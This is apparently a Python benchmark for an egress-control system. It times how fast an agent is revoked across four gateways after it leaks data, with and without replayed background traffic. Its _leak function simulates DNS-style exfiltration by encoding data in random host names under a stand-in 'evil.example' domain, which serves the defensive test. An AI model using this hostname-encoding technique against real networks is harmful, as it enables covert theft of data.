"""How soon is an agent that leaks refused everywhere?

    python -m benchmarks respond [--agents=N] [--replayed=N] [--arm=alone|beside]

Everything is the shipped command line: four egress doors, one worker, its detectors and one rule, `leak` revokes `agent`. One
agent after another asks for something permitted at each door, 200 calls a second in all, and then tells a domain 5,700 bits in
the names of 26 hosts, through one of the doors. The clock runs from the call that took the finding over the rule's score, by
the record of the door that was asked, to the first answer `revoked` of the last door, as its client sees it; between them lie
the seal, the insert, the sums, the finding, the question to control, the log and the board. The same while calls are replayed:
20,000 a second, from another host of the same home.

Whatever is answered 200 behind a refusal of the same door is `late`, who is never refused `silent`: both must be none.
"""

import asyncio
import json
import random
import statistics
import sys
import tempfile
import time
from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Final

import uvloop

from benchmarks.egress.client import Watcher, ask, connect, request
from benchmarks.egress.site import Site
from benchmarks.wire.tools import end, free_port, origin
from benchmarks.workload import SAMPLE
from tests.support.home import wait_until

DOORS: Final = 4
RATE: Final = 200
AGENTS: Final = 100
REPLAYED: Final = 20_000
"""Calls a second of the second part."""

REFUSED_P99_MAX_MS: Final = 2_000.0
SETTLE_S: Final = 0.3
WAIT_S: Final = 20.0
BESIDE_MAX: Final = 30
"""Agents beside the replay: its file has calls for so long."""

AGENT_S: Final = 3.0
"""How long an agent's turn is reckoned to take beside the replay. Whose turn is not over before that, is not measured."""

WARM_S: Final = 5.0
READ_S: Final = 300.0
"""A replay has read its whole file, and begun, within this."""

NAMES: Final = 26
NAME: Final = 48
LETTERS: Final = "abcdefghijklmnopqrstuvwxyz234567"

CONFIG: Final = """
[[respond]]
name = "leaks"
finding = "leak"
revoke = "agent"
limit = 10000
"""
POLICY: Final = '\n@id("tools")\npermit (principal, action == Action::"mcp:tools/call", resource);\n'

STEPS: Final = ("the finding is stored", "it is revoked", "the last door says so", "the last door refuses")


@dataclass(slots=True)
class Turn:
    """One agent: when the last door refused it first, nanoseconds since 1970; 0 where one never did."""

    agent: str
    refused_ns: int = 0
    late: int = 0
    other: int = 0


@dataclass(slots=True)
class Found:
    """Milliseconds from the call that crossed the threshold to each step, and what went wrong."""

    steps: dict[str, list[float]] = field(default_factory=lambda: {step: [] for step in STEPS})
    silent: int = 0
    late: int = 0
    other: int = 0
    unmeasured: int = 0
    """Agents whose turn did not come while calls were replayed."""
    rate: float = 0.0
    replayed: float = 0.0


def main(argv: list[str]) -> int:
    """Measure and print; returns 1 when a limit is missed."""
    options = dict(word.lstrip("-").partition("=")[::2] for word in argv)
    agents = int(options.get("agents") or AGENTS)
    arms = {"alone": 0, "beside": int(options.get("replayed") or REPLAYED)}
    if (only := options.get("arm")) is not None:
        arms = {only: arms[only]}
    good = True
    for replayed in arms.values():
        good = _report(_measure(min(agents, BESIDE_MAX) if replayed else agents, replayed), replayed) and good
    return 0 if good else 1


def _report(found: Found, replayed: int) -> bool:
    meanwhile = f", {found.replayed:,.0f} replayed calls/s meanwhile (asked for: {replayed:,})" if replayed else ""
    print(f"{found.rate:,.0f} calls/s at {DOORS} doors{meanwhile}; from the call that crossed the threshold:")
    good = not (found.silent or found.late or found.other or found.unmeasured)
    for step, values in found.steps.items():
        if not values:
            print(f"  MISSED: {step}: nobody was measured")
            good = False
            continue
        p50, p99 = statistics.median(values), statistics.quantiles(values, n=100)[98] if len(values) > 1 else values[0]
        limit = REFUSED_P99_MAX_MS if step == STEPS[-1] else None
        holds = limit is None or p99 <= limit
        good = good and holds
        most = f", p99 at most {limit:.0f}" if limit else ""
        print(f"  {'' if holds else 'MISSED: '}{step}, ms  p50 {p50:6.0f}  p99 {p99:6.0f}  max {max(values):6.0f}"
              f"  of {len(values)}{most}")  # fmt: skip
    print(f"  {found.silent} never refused, {found.late} let out behind a refusal, {found.other} answered otherwise,"
          f" {found.unmeasured} not measured: each at most 0", flush=True)  # fmt: skip
    return good


def _measure(agents: int, replayed: int) -> Found:
    port = free_port()
    names = [f"leaker-{number}" for number in range(agents)]
    with (
        tempfile.TemporaryDirectory(prefix="wardline-respond-") as folder, origin(port),
        Site(Path(folder) / "home", [port], doors=DOORS, config=CONFIG, pinned=False, extra=POLICY) as site,
    ):  # fmt: skip
        site.add_many(names)
        with _replaying(site, replayed, agents * AGENT_S + WARM_S) as goes_on:
            began = time.time()
            turns = uvloop.run(_all(site, names, f"localhost:{port}", goes_on))
            seconds = time.time() - began
        site.quiet(600)
        found = _found(site, turns, began, seconds)
        found.unmeasured = agents - len(turns)
        return found


@contextmanager
def _replaying(site: Site, rate: int, seconds: float) -> Iterator[Callable[[], bool]]:
    """A replay of calls of this hour, which ends with the block; yields whether it still goes on."""
    if not rate:
        yield lambda: True
        return
    file = site.home.home.root / "calls.jsonl"
    _write(file, rate, seconds)
    replay = site.home.popen("replay", str(file), "--rate", str(rate))
    try:
        sql = "SELECT count() FROM records WHERE kind = 1 AND door = 'replay'"
        wait_until(lambda: replay.poll() is None and site.home.sql(sql)[0][0] > 0, READ_S, lambda: site.home.said("replay"))
        time.sleep(WARM_S)
        calls = int(rate * seconds)
        yield lambda: replay.poll() is None and site.home.sql(sql)[0][0] < calls
    finally:
        end(replay, 90)


def _write(file: Path, rate: int, seconds: float) -> None:
    """The calls that Wardline comes with, again and again, each round with sessions and traces of its own."""
    lines = [json.loads(line) for line in SAMPLE.read_text().splitlines()]
    for line in lines:  # each call is a trace of its own
        line.pop("trace_id", None)
        line.pop("parent_span", None)
    start = time.time()
    with file.open("w") as out:
        for number in range(int(rate * seconds)):
            turn, at = divmod(number, len(lines))
            line = lines[at]
            mine = {**line, "time": round(start + number / rate, 6), "session": f"{line.get('session', '')}#{turn}"}
            out.write(json.dumps(mine, separators=(",", ":")) + "\n")


# -- one agent after another -----------------------------------------------------------------------------------------


async def _all(site: Site, names: Sequence[str], host: str, goes_on: Callable[[], bool]) -> list[Turn]:
    turns = []
    for number, name in enumerate(names):
        turn = await _one(site, number, name, host)
        if not goes_on():
            break
        turns.append(turn)
    return turns


async def _one(site: Site, number: int, agent: str, host: str) -> Turn:
    doors = [site.socket(door + 1) for door in range(DOORS)]
    watchers = [Watcher(door, request(host, "/v1/answer", site.auth(agent)), DOORS / RATE) for door in doors]
    tasks = [asyncio.create_task(watcher.run()) for watcher in watchers]
    await asyncio.sleep(SETTLE_S)
    await _leak(doors[number % DOORS], agent, site.auth(agent))
    deadline = time.monotonic() + WAIT_S
    while time.monotonic() < deadline and not all(one.seen.first_refused_ns for one in watchers):
        await asyncio.sleep(0.005)
    for watcher in watchers:
        watcher.stop()
    await asyncio.gather(*tasks)
    times = [one.seen.first_refused_ns for one in watchers]
    return Turn(agent, refused_ns=max(times) if all(times) else 0, late=sum(one.seen.late for one in watchers),
                other=sum(one.seen.other for one in watchers))  # fmt: skip


async def _leak(door: str, agent: str, auth: str) -> None:
    """Ask for names that nobody may reach: what they say is told by asking."""
    source = random.Random(agent)
    streams = await connect(door)
    for _ in range(NAMES):
        name = "".join(source.choices(LETTERS, k=NAME))
        try:
            await ask(*streams, request(f"{name}.{agent}-evil.example", "/", auth))
        except (OSError, EOFError):
            streams[1].close()
            streams = await connect(door)
    streams[1].close()


def _found(site: Site, turns: Sequence[Turn], began: float, seconds: float) -> Found:
    found = Found(silent=sum(not turn.refused_ns for turn in turns), late=sum(turn.late for turn in turns),
                  other=sum(turn.other for turn in turns))  # fmt: skip
    told = {str(agent): [int(value) for value in values] for agent, *values in site.home.sql(
        "SELECT f.agent, toUnixTimestamp64Micro(f.time), toUnixTimestamp64Micro(f.stored), toUnixTimestamp64Micro(v.since),"
        " v.epoch FROM findings AS f INNER JOIN responses AS r ON r.finding = f.id"
        " INNER JOIN revocations AS v ON v.epoch = r.epoch WHERE f.detector = 'leak' AND r.state = 'revoked'"
    )}  # fmt: skip
    words: dict[str, list[tuple[int, int]]] = {}
    for door, epoch, applied in site.home.sql("SELECT door, epoch, toUnixTimestamp64Micro(applied) FROM acks WHERE door != ''"
                                              " AND host = 'enforce-1' ORDER BY door, epoch, applied"):  # fmt: skip
        words.setdefault(door, []).append((int(epoch), int(applied)))
    for turn in turns:
        if turn.agent not in told or not turn.refused_ns:
            continue
        crossed, stored, since, epoch = told[turn.agent]
        obeyed = max(next(at for reached, at in said if reached >= epoch) for said in words.values())
        ends = (stored, since, obeyed, turn.refused_ns // 1000)
        for step, at in zip(STEPS, ends, strict=True):
            found.steps[step].append((at - crossed) / 1000)
    first, last = (f"fromUnixTimestamp64Micro({int(at * 1e6)})" for at in (began, began + seconds))
    counts: dict[str, Any] = dict(site.home.sql("SELECT toString(door), count() FROM records WHERE kind = 1"
                                                f" AND recorded BETWEEN {first} AND {last} GROUP BY door"))  # fmt: skip
    found.replayed = counts.pop("replay", 0) / seconds
    found.rate = sum(counts.values()) / seconds
    return found


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
